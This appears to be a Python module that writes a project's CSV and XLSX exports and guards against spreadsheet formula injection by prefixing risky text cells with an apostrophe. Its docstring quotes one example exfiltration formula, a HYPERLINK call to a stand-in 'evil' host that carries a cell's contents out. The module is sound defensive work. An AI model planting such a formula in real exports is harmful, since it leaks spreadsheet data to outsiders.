"""The one writer of every CSV and XLSX that SARA hands to people: tables, quarantine, people,
audit, patrol returns, powers tables.

A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula (and tab
or carriage return can hide one), so a value from a partner's file such as
``=HYPERLINK("http://evil/?"&A1)`` would run on the reader's machine. Every text cell that
begins with one of those characters is written with a leading apostrophe, as OWASP's "CSV
Injection" guidance recommends; numbers SARA itself computed (ints, floats, numeric columns)
are written as they are, so ``-3`` stays a number.
"""

from __future__ import annotations

import csv
import io
import json
import sys
from collections.abc import Iterable, Mapping, Sequence
from decimal import Decimal
from pathlib import Path
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    import polars as pl


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
STDOUT = "-"


def safe_cell(value):
    """``value`` as it may go into a spreadsheet: None as empty, lists and dicts as JSON,
    text beginning with a formula character behind an apostrophe, numbers unchanged."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value).lower()
    if isinstance(value, int | float | Decimal):
        return value
    if isinstance(value, list | tuple | dict):
        value = json.dumps(value, ensure_ascii=False, default=str)
    text = value if isinstance(value, str) else str(value)
    return "'" + text if text.startswith(FORMULA_START) else text


def _rows(columns: Sequence[str], rows: Iterable[Mapping | Sequence]) -> Iterable[list]:
    for row in rows:
        values = [row.get(c) for c in columns] if isinstance(row, Mapping) else list(row)
        yield [safe_cell(v) for v in values]


def csv_text(columns: Sequence[str], rows: Iterable[Mapping | Sequence]) -> str:
    """The CSV text of ``rows`` (dicts keyed by ``columns``, or sequences in their order)."""
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\r\n")  # RFC 4180; it also makes the writer quote a lone \r
    w.writerow([safe_cell(c) for c in columns])
    w.writerows(_rows(columns, rows))
    return buf.getvalue()


def write_csv(path: str | Path, columns: Sequence[str], rows: Iterable[Mapping | Sequence]) -> int:
    """Write ``rows`` under a header of ``columns`` to ``path`` (``-``: standard output);
    returns the number of rows written."""
    rows = list(rows)
    text = csv_text(columns, rows)
    if str(path) == STDOUT:
        sys.stdout.write(text)
    else:
        Path(path).write_text(text, encoding="utf-8", newline="")
    return len(rows)


def frame_rows(table: pl.DataFrame) -> tuple[list[str], list[list]]:
    """A data frame's columns and rows for the writers; nested values become JSON text."""
    import polars as pl

    flat = table.select(
        pl.col(c).map_elements(lambda v: json.dumps(v if not isinstance(v, pl.Series) else v.to_list(), default=str), return_dtype=pl.String)
        if isinstance(t, pl.List | pl.Struct | pl.Array | pl.Object) else pl.col(c)
        for c, t in table.schema.items()
    )  # fmt: skip
    return flat.columns, [list(r) for r in flat.iter_rows()]


def write_frame_csv(table: pl.DataFrame, path: str | Path) -> int:
    """``write_csv`` for a data frame (a scan's table)."""
    columns, rows = frame_rows(table)
    return write_csv(path, columns, rows)


def write_xlsx(path: str | Path, sheets: Mapping[str, tuple[Sequence[str], Iterable[Mapping | Sequence]]]) -> int:
    """Write one worksheet per ``sheets`` item (name -> (columns, rows)); every text cell is
    stored as text (never a formula), neutralised as for CSV. Returns the rows written."""
    from openpyxl import Workbook

    book = Workbook()
    book.remove(book.active)
    n = 0
    for name, (columns, rows) in sheets.items():
        sheet = book.create_sheet(title=str(name)[:31])
        sheet.append([safe_cell(c) for c in columns])
        for values in _rows(columns, rows):
            sheet.append(values)
            n += 1
        for row in sheet.iter_rows(min_row=1):
            for cell in row:
                if isinstance(cell.value, str):
                    cell.data_type = "s"
    book.save(path)
    return n
